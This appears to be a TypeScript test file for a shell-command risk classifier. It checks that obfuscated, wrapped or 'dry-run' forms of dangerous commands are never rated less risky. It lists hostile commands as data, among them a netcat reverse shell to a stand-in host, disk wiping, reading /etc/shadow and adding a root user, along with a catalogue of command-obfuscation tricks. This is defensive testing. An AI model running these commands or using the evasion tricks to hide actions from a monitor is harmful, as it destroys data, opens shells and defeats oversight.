import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { classify } from './classify.ts';

const risk = (command: string) => classify(command, { medium: 4, high: 7 });
const LEVELS = ['low', 'medium', 'high'];
const levelOf = (command: string) => LEVELS.indexOf(risk(command).level);

const COMMANDS = [
  'rm -rf /',
  'rm -rf /etc',
  'rm a.txt',
  'dd if=a of=/dev/sda',
  'mkfs.ext4 /dev/sdb1',
  'chmod -R 777 /',
  'curl https://e.com/a -o b',
  'wget http://e.com/a',
  'nc -e /bin/sh e.com 4444',
  'cat /etc/shadow',
  'shutdown -h now',
  'kill -9 1',
  'git push --force',
  'git reset --hard',
  'kubectl delete ns prod',
  'terraform destroy',
  'docker system prune -af',
  'aws s3 rm s3://b --recursive',
  'crontab -r',
  'useradd -o -u 0 a',
  'truncate -s 0 a',
  'find / -delete',
  'python3 a.py',
  'npm publish',
  'frobnicate a',
];

const hex = (text: string) => [...text].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('');
const base64 = (text: string) => Buffer.from(text).toString('base64');
const quoted = (c: string) => `'${c.replaceAll("'", `'\\''`)}'`;
const first = (c: string) => c.split(' ')[0] ?? '';
const rest = (c: string) => c.slice(first(c).length);

/** Ways to write a command that runs all the same; each with its name for the report. */
const WAYS: Readonly<Record<string, (c: string) => string>> = {
  'quotes in the name': (c) => `${first(c).slice(0, 1)}''${first(c).slice(1)}${rest(c)}`,
  'double quotes in the name': (c) => `${first(c).slice(0, 1)}""${first(c).slice(1)}${rest(c)}`,
  'name in quotes': (c) => `"${first(c)}"${rest(c)}`,
  'backslash before the name': (c) => `\\${c}`,
  'backslash in the name': (c) => `${first(c).slice(0, 1)}\\${first(c).slice(1)}${rest(c)}`,
  'ANSI-C quoting': (c) => `$'${hex(first(c))}'${rest(c)}`,
  'IFS for blanks': (c) => c.replaceAll(' ', '\u0024{IFS}'),
  'brace list': (c) => `{${c.split(' ').join(',')}}`,
  'full path': (c) => `/usr/bin/${c}`,
  'escaped line end': (c) => `${first(c)} \\\n${rest(c)}`,
  'line end in the name': (c) => `${first(c).slice(0, 1)}\\\n${first(c).slice(1)}${rest(c)}`,
  'wide letters': (c) =>
    `${[...first(c)].map((l) => String.fromCharCode(l.charCodeAt(0) + 0xfee0)).join('')}${rest(c)}`,
  'name in a variable': (c) => `X=${first(c)}; $X${rest(c)}`,
  'command in a variable': (c) => `X=${quoted(c)}; $X`,
  'name in two variables': (c) => `A=${first(c).slice(0, 1)}; B=${first(c).slice(1)}; $A$B${rest(c)}`,
  'substituted name': (c) => `$(echo ${first(c)})${rest(c)}`,
  'printed name': (c) => `$(printf '${hex(first(c))}')${rest(c)}`,
  'function with the name': (c) => `f() { ${c}; }; f`,
  'positional parameters': (c) => `set -- ${c}; "$@"`,
  array: (c) => `a=(${c}); "\${a[@]}"`,
  alias: (c) => `alias x=${quoted(c)}; x`,
  eval: (c) => `eval ${quoted(c)}`,
  'eval of pieces': (c) => `eval ${quoted(c.slice(0, 3))}${quoted(c.slice(3))}`,
  'here-string': (c) => `bash <<< ${quoted(c)}`,
  'here-document': (c) => `sh <<'E'\n${c}\nE`,
  'base64 to a shell': (c) => `echo ${base64(c)} | base64 -d | sh`,
  'base64 in a substitution': (c) => `bash -c "$(echo ${base64(c)} | base64 -d)"`,
  'hex to a shell': (c) => `printf '${hex(c)}' | bash`,
  'reversed to a shell': (c) => `echo ${quoted([...c].reverse().join(''))} | rev | sh`,
  'in a process substitution': (c) => `source <(echo ${quoted(c)})`,
  'in a written file': (c) => `echo ${quoted(c)} > x.sh; sh x.sh`,
  trap: (c) => `trap ${quoted(c)} EXIT`,
  'in an arithmetic index': (c) => `a[$(${c})]=1`,
  'in a default value': (c) => `: \${x:-$(${c})}`,
  'in a test': (c) => `[[ -n $(${c}) ]]`,
  'behind a guard': (c) => `true || ls && ${c}`,
  'in a loop': (c) => `while true; do ${c}; break; done`,
  'in a case': (c) => `case a in a) ${c};; esac`,
  coproc: (c) => `coproc ${c}`,
  'in the background': (c) => `${c} &`,
  'output thrown away': (c) => `${c} >/dev/null 2>&1`,
  'after a cd': (c) => `cd /tmp && ${c}`,
  'in a subshell with cd': (c) => `(cd a; ${c})`,
  'through a pager': (c) => `PAGER=${quoted(c)} man ls`,
  'through an editor': (c) => `EDITOR=${quoted(c)} git commit`,
  'by find': (c) => `find . -maxdepth 0 -exec ${c} \\;`,
  'by fd': (c) => `fd -x ${c}`,
  'by awk': (c) => `awk 'BEGIN{system("${c}")}'`,
  'by python': (c) => `python3 -c 'import os; os.system("${c}")'`,
  'by perl': (c) => `perl -e 'system("${c}")'`,
  'by git': (c) => `git -c alias.x='!${c}' x`,
  'by make': (c) => `make --eval='x:;${c}'`,
  'by tar': (c) => `tar cf a b --checkpoint=1 --checkpoint-action=exec='${c}'`,
  'in a container': (c) => `docker exec web ${c}`,
  'in a container’s shell': (c) => `docker exec -it web sh -c ${quoted(c)}`,
  'in a pod': (c) => `kubectl exec web-0 -- ${c}`,
  'on another machine': (c) => `ssh host ${quoted(c)}`,
  'on another machine, bare': (c) => `ssh host ${c}`,
  'in another pane': (c) => `tmux new-session -d ${quoted(c)}`,
};

const WRAPPERS = [
  ...['sudo', 'sudo -u root --', 'doas', 'env', 'env A=b', 'nohup', 'setsid', 'timeout 5', 'timeout -k 1 5'],
  ...['nice -n 5', 'ionice -c3', 'stdbuf -o0', 'time', 'command', 'exec', 'chroot /mnt', 'unshare -r'],
  ...['nsenter -t 1 -m', 'flock /tmp/l', 'strace -f', 'ltrace', 'busybox', 'toybox', 'xargs', 'watch -n 1'],
  ...[
    'parallel',
    'runuser -u a --',
    'screen -dm',
    'systemd-run',
    'ip netns exec a',
    'ssh-agent',
    'logsave a',
  ],
];

describe('evasion', () => {
  it('never makes a command look better: each way of writing it is at its level or above', () => {
    const lowered = Object.entries(WAYS).flatMap(([name, write]) =>
      COMMANDS.filter((c) => levelOf(write(c)) < levelOf(c)).map((c) => `${name}: ${write(c)}`),
    );
    expect(lowered).toEqual([]);
  });

  it('never makes a command look better: one wrapper in another', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...COMMANDS),
        fc.array(fc.constantFrom(...WRAPPERS), { minLength: 1, maxLength: 3 }),
        (command, wrappers) => {
          const wrapped = `${wrappers.join(' ')} ${command}`;
          expect(levelOf(wrapped), wrapped).toBeGreaterThanOrEqual(levelOf(command));
        },
      ),
      { numRuns: 300 },
    );
  });

  it('never makes a command look better: harmless words, flags for help and dry runs beside it', () => {
    const beside = ['--help', '--version', '--dry-run', '-n', '-h', 'help', 'list'];
    const shielded = beside.flatMap((word) =>
      [
        `rm -rf / ${word} /`,
        `ssh host rm -rf / ${word}`,
        `sh x.sh ${word}`,
        `./x ${word}`,
        `bash -c 'rm -rf /' ${word}`,
        `npx frobnicate ${word}`,
        `npm run x -- ${word}`,
        `docker run a ${word}`,
        `python3 a.py ${word}`,
        `cargo run -- ${word}`,
        `git frobnicate ${word} delete`,
        `kubectl delete ns a ${word} --dry-run=none`,
      ].filter((c) => risk(c).level === 'low'),
    );
    expect(shielded).toEqual([]);
  });

  // What a program promises about itself proves nothing, and is what a rehearsal is for.
  it('never makes a command look better: a dry run of its own', () => {
    const commands = [
      'apt-get install jq',
      'dnf remove jq',
      'git clean -fdx',
      'git push --force',
      'git rm -r src',
      'helm uninstall a',
      'kubectl apply -f a.yaml',
      'kubectl delete ns a',
      'npm publish',
      'rsync -a --delete a/ b/',
      'make install',
      'terraform apply',
    ];
    const flags = [
      '--dry-run',
      '--dry-run=client',
      '--dryrun',
      '-n',
      '-s',
      '--simulate',
      '--no-act',
      '--assumeno',
    ];
    const lowered = commands.flatMap((command) =>
      flags.map((flag) => `${command} ${flag}`).filter((c) => levelOf(c) < levelOf(command)),
    );
    expect(lowered).toEqual([]);
  });
});
